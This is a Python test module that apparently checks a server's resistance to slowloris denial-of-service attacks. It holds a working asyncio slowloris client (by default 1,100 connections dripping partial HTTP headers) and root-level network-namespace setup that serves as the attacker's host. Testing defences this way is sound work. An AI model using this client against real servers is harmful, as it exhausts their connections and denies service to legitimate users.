"""A slowloris from another host: ``python -m tests.slowloris HOST PORT ...`` run inside a network
namespace joined to the test's by a veth pair (:func:`attacker_namespace`).

Each of ``--connections`` slots connects, sends a partial request header, then one byte every
``--interval`` seconds; when the server closes it (or refuses it), the slot reconnects at its
next tick, as slowloris tools do. At the end one JSON line on stdout: how many connections were
made, how many the server closed and after how long, the most open at once.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import resource
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]


@dataclass
class Stats:
    connects: int = 0
    connect_failures: int = 0
    refused: int = 0
    """Closed by the server within 0.2 s of connecting: over a cap."""
    closed: list[float] = field(default_factory=list)
    """Lifetimes of the connections the server closed after the first 0.2 s."""
    open: int = 0
    max_open: int = 0
    """Counted here (a reset connection counts until the attacker reads): see
    :meth:`Namespace.established` for what the kit really holds."""
    ages_at_end: list[float] = field(default_factory=list)

    def report(self) -> dict[str, object]:
        closed = sorted(self.closed)
        return {
            "connects": self.connects,
            "connect_failures": self.connect_failures,
            "refused": self.refused,
            "closed": len(closed),
            "closed_after_max_s": round(closed[-1], 2) if closed else None,
            "closed_after_median_s": round(closed[len(closed) // 2], 2) if closed else None,
            "max_open": self.max_open,
            "open_at_end": len(self.ages_at_end),
            "oldest_at_end_s": round(max(self.ages_at_end), 2) if self.ages_at_end else None,
        }


async def _slot(host: str, port: int, interval: float, until: float, stats: Stats) -> None:
    while time.monotonic() < until:
        try:
            async with asyncio.timeout(5):
                reader, writer = await asyncio.open_connection(host, port)
        except (ConnectionResetError, ConnectionRefusedError):
            stats.refused += 1  # reset before the handshake's end reached us
            await asyncio.sleep(interval)
            continue
        except (OSError, TimeoutError):
            stats.connect_failures += 1
            await asyncio.sleep(interval)
            continue
        stats.connects += 1
        stats.open += 1
        stats.max_open = max(stats.max_open, stats.open)
        opened = time.monotonic()
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: kit\r\nUser-Agent: slow\r\n")
            closed = await _drip(reader, writer, interval, until)
        finally:
            stats.open -= 1
            writer.close()
        age = time.monotonic() - opened
        if not closed:
            stats.ages_at_end.append(age)
            return
        if age < 0.2:
            stats.refused += 1
        else:
            stats.closed.append(age)
        await asyncio.sleep(interval)


async def _drip(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, interval: float, until: float
) -> bool:
    """One byte every ``interval``; True once the server has closed the connection."""
    while (left := until - time.monotonic()) > 0:
        try:
            async with asyncio.timeout(min(interval, left)):
                data = await reader.read(4096)
            if not data:
                return True
        except TimeoutError:
            pass
        except OSError:
            return True
        try:
            writer.write(b"a")
            await writer.drain()
        except OSError:
            return True
    return False


async def attack(host: str, port: int, connections: int, interval: float, seconds: float) -> Stats:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stats = Stats()
    until = time.monotonic() + seconds
    tasks = []
    for _ in range(connections):  # all within the first second, as a tool would
        tasks.append(asyncio.create_task(_slot(host, port, interval, until, stats)))
        await asyncio.sleep(1.0 / connections)
    async with asyncio.timeout(seconds + 30):
        await asyncio.gather(*tasks)
    return stats


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=1100)
    parser.add_argument("--interval", type=float, default=10.0)
    parser.add_argument("--seconds", type=float, default=30.0)
    args = parser.parse_args()
    stats = asyncio.run(attack(args.host, args.port, args.connections, args.interval, args.seconds))
    print(json.dumps(stats.report()), flush=True)


# -- the attacker's host: a network namespace -----------------------------------------------------


@dataclass(frozen=True)
class Namespace:
    name: str
    host_address: str
    """The test's (the kit's or the server's) end of the veth pair."""
    attacker_address: str

    def command(self, *argv: str) -> list[str]:
        return ["ip", "netns", "exec", self.name, *argv]

    def slowloris(
        self, port: int, connections: int, interval: float, seconds: float
    ) -> subprocess.Popen[str]:
        """Start the attack on ``host_address:port`` from the namespace (a child process)."""
        argv = [sys.executable, "-m", "tests.slowloris", self.host_address, str(port)]
        options = ["--connections", str(connections), "--interval", str(interval)]
        return subprocess.Popen(
            self.command(*argv, *options, "--seconds", str(seconds)),
            cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    def established(self, port: int) -> int:
        """The attacker's TCP connections to ``port`` that are established right now."""
        listing = _run(*self.command("ss", "-Htn", "state", "established", f"dport = :{port}"))
        return len(listing.stdout.splitlines())


def _run(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, capture_output=True, text=True, timeout=20)


@contextlib.contextmanager
def attacker_namespace() -> Iterator[Namespace]:
    """A LAN host of its own: a namespace on a veth pair, ``10.X.Y.2`` → ``10.X.Y.1`` (ours)."""
    if os.geteuid() != 0 or shutil.which("ip") is None:
        pytest.skip("network namespaces need root and iproute2")
    tag = f"{os.getpid() % 100_000}{random.randrange(100)}"
    name, ours, theirs = f"slow{tag}", f"vs{tag}", f"va{tag}"
    subnet = f"10.{random.randrange(200, 250)}.{random.randrange(1, 250)}"
    made = _run("ip", "netns", "add", name)
    if made.returncode != 0:
        pytest.skip(f"cannot create a network namespace: {made.stderr.strip()}")
    space = Namespace(name, f"{subnet}.1", f"{subnet}.2")
    try:
        for argv in (
            ("ip", "link", "add", ours, "type", "veth", "peer", "name", theirs),
            ("ip", "link", "set", theirs, "netns", name),
            ("ip", "addr", "add", f"{subnet}.1/24", "dev", ours),
            ("ip", "link", "set", ours, "up"),
            tuple(space.command("ip", "addr", "add", f"{subnet}.2/24", "dev", theirs)),
            tuple(space.command("ip", "link", "set", theirs, "up")),
            tuple(space.command("ip", "link", "set", "lo", "up")),
        ):
            done = _run(*argv)
            if done.returncode != 0:
                raise RuntimeError(f"{' '.join(argv)}: {done.stderr.strip()}")
        yield space
    finally:
        _run("ip", "link", "del", ours)
        _run("ip", "netns", "del", name)


def finish(process: subprocess.Popen[str], timeout: float = 60.0) -> dict[str, object]:
    """The attack's report (its last stdout line), once it has ended by itself."""
    try:
        out, err = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        process.kill()
        out, err = process.communicate()
    lines = out.strip().splitlines()
    if process.returncode != 0 or not lines:
        raise AssertionError(f"the attack failed ({process.returncode}): {err[-2000:]}")
    report: dict[str, object] = json.loads(lines[-1])
    return report


if __name__ == "__main__":
    main()
